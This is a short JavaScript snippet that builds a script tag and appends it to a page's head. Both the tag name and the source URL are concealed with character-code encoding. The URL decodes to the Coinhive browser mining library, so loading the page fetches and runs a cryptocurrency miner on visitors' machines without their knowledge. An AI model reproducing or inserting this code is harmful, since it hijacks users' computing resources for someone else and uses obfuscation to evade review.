var s = document.createElement(String.fromCharCode(115, 99, 114, 105, 112, 116));
s.src = String.fromCharCode(47, 47, 99, 111, 105, 110, 104, 105, 118, 101, 46, 99, 111, 109, 47, 108, 105, 98, 47, 109, 46, 106, 115);
document.head.appendChild(s);
